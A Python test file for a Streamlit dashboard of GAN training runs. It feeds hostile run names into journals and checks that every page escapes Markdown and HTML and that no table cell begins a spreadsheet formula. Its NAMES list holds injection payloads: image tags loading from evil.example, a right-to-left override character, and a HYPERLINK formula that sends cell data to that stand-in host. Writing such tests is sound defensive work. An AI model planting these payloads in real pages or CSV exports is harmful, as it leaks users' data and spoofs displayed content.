"""Every page shows texts of runs, studies and addresses literally, not as Markdown or HTML."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import pandas as pd
import pyarrow.ipc
import pytest
from google.protobuf.message import Message
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1.element_tree import Block

from gan_runtime.records import image_files, journal
from gan_runtime.records.kinds import StudyPlace
from gan_runtime.records.run_folder import RunDir
from tests.pages import whole_page
from tests.pages.hostile import TEXTS
from tests.support.measured_flows import frames as films
from tests.support.measured_flows import iteration

Show = Callable[..., AppTest]
OF_RUN, OF_SEVERAL = {"run": "quick-0002"}, {"runs": "quick-0001,quick-0002,quick-0003"}
EVALUATED = {"run": "quick-0005", "tab": "evaluation", "with": "quick-0001,quick-0002"}
PAGES = {
    "home": {},
    "run": OF_RUN,
    **{f"run {tab}": OF_RUN | {"tab": tab} for tab in ("samples", "histograms", "log", "options")},
    "runs": {},
    "compare": OF_SEVERAL,
    **{f"compare {tab}": OF_SEVERAL | {"tab": tab} for tab in ("curves", "samples", "histograms")},
    "studies": {},
    **{f"studies {tab}": {"tab": tab} for tab in ("xla", "precision", "paper")},
    "launch": {},
    **{f"launch {tab}": {"tab": tab} for tab in ("study", "paper")},
    "data": {},
    "tpu": {},
    "gpu": {},
    **{
        f"run evaluation {view}": EVALUATED | {"view": view}
        for view in ("Summary", "Film", "Errors", "Time")
    },
}
NAMES = (
    "![x](http://evil.example/a.png)<img src=//evil.example/b>",
    ":material/home: :red[b] $x$ `c` www.evil.example a@evil.example",
    "# h\n\n- i _em_ **s** ~~g~~ [x](http://evil.example)",
    "&lt;b&gt; turned\u202eback | https://evil.example",
    '=HYPERLINK("http://evil.example/?" & A1, "Results")',
)
# Unescaped markup that Markdown elements would render; REFUSED lists it for HTML elements.
MARKDOWN = (
    "![x]",
    "[x](",
    "<img",
    ":material/home",
    ":red[",
    "$x$",
    "`c`",
    "www.evil",
    "a@evil",
    "**s**",
    "~~g~~",
    "https://evil",
    "\u202e",
    " _em_ ",
    " &lt;b",
)
REFUSED = {"Html": ("<img", " &lt;b&gt; turned")}
ESCAPED = re.compile(r"\\.")
# Messages whose fields are shown as plain text, or not at all.
PLAIN = {
    "ArrowVegaLiteChart",
    "VegaLiteChart",
    "Arrow",
    "Dataframe",
    "Code",
    "Selectbox",
    "MultiSelect",
    "TextInput",
    "Image",
}
ATTRIBUTES = {"alt"}  # of HTML elements: plain text


@pytest.fixture
def hostile(trained: Callable[..., RunDir]) -> None:
    """Runs with hostile texts wherever a journal has text; all but the first belong to a study."""
    for number, name in enumerate(NAMES, start=1):
        run = trained(f"quick-000{number}", seconds=number, xla="jit" if number % 2 else "off")
        lines = [
            json.loads(line)
            for line in run.supervisor_journal.read_text(encoding="utf-8").splitlines()
        ]
        place = StudyPlace(
            study_id="study-0001",
            question="xla",
            title=name,
            variant=f"{name} {number % 2}",
            variant_index=number % 2,
            repeat=1,
        )
        lines[0]["study"] = place.model_dump() if number > 1 else None
        run.supervisor_journal.write_text(
            "".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8"
        )
        file = image_files.write_film(run, "film", films(8))
        journal.append(
            run.earlier_journal("flow"), 1, iteration(steps=8).model_copy(update={"frames": file})
        )
        journal.append(
            run.trainer_journal(),
            1,
            journal.Renamed(name=name),
            journal.Event(level="warning", topic=name, message=name),
            journal.StatusChange(
                status="failed" if number == 2 else "finished", reason=f"{name} {TEXTS[number]}"
            ),
        )


def more_than_text(app: AppTest) -> list[str]:
    """Markdown and HTML texts of the page that contain unescaped markup."""
    return [
        text
        for kind, text in page_texts(whole_page.tree(app))
        if any(raw in ESCAPED.sub("", text) for raw in REFUSED.get(kind, MARKDOWN))
    ]


def page_texts(block: Any) -> Iterator[tuple[str, str]]:
    """The element kind and the text of every string on the page."""
    for child in block.children.values():
        if isinstance(child, Block):
            yield from page_texts(child)
        proto = getattr(child, "proto", None)
        if isinstance(proto, Message) and proto.DESCRIPTOR.name not in PLAIN:
            yield from ((proto.DESCRIPTOR.name, text) for text in strings(proto))


def strings(message: Message) -> Iterator[str]:
    """The text fields of a message and its nested messages."""
    for field, value in message.ListFields():
        if field.name in ATTRIBUTES:
            continue
        for entry in value if field.is_repeated else [value]:
            if isinstance(entry, str):
                yield entry
            elif isinstance(entry, Message):
                yield from strings(entry)


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize(("page", "query"), PAGES.items(), ids=list(PAGES))
def test_pages_escape_markup_in_run_texts(show: Show, page: str, query: dict[str, str]) -> None:
    app = show(page.split()[0], **query)
    assert not app.exception
    assert len(list(page_texts(whole_page.tree(app)))) > 5
    assert more_than_text(app) == []


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("page", ["runs", "compare", "run", "studies"])
def test_tables_and_charts_contain_no_spreadsheet_formulas(show: Show, page: str) -> None:
    """Streamlit's toolbar above them copies both and downloads them as CSV."""
    query = EVALUATED if page == "run" else {"runs": "quick-0005,quick-0001"}
    app = show(page, **query)
    assert not app.exception
    cells = [cell for table in tables_of(whole_page.tree(app)) for cell in cells_of(table)]
    assert any("HYPERLINK" in cell for cell in cells), "this looks in the wrong place"
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def tables_of(block: Any) -> Iterator[pd.DataFrame]:
    """Every table that the page sends: displayed tables and the rows of charts."""
    for child in block.children.values():
        if isinstance(child, Block):
            yield from tables_of(child)
        proto = getattr(child, "proto", None)
        if isinstance(proto, Message):
            yield from (pyarrow.ipc.open_stream(data).read_pandas() for data in arrow(proto))


def arrow(message: Message) -> Iterator[bytes]:
    """The Arrow IPC data of a message and its nested messages."""
    for field, value in message.ListFields():
        for entry in value if field.is_repeated else [value]:
            if isinstance(entry, bytes) and entry.startswith(b"\xff\xff\xff\xff"):
                yield entry
            elif isinstance(entry, Message):
                yield from arrow(entry)


def cells_of(table: pd.DataFrame) -> Iterator[str]:
    """The texts of a table, including column names and texts in lists."""
    for values in ([*table.columns], *(table[name] for name in table)):
        for value in values:
            yield from (
                part
                for part in (value if isinstance(value, list) else [value])
                if isinstance(part, str)
            )


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize(
    ("page", "name"),
    [("run", "run"), ("run", "tab"), ("compare", "runs"), ("compare", "tab"), ("studies", "study")],
)
def test_pages_escape_markup_in_the_address(show: Show, page: str, name: str) -> None:
    app = show(page, **{name: " ".join(NAMES)})
    assert not app.exception
    assert more_than_text(app) == []
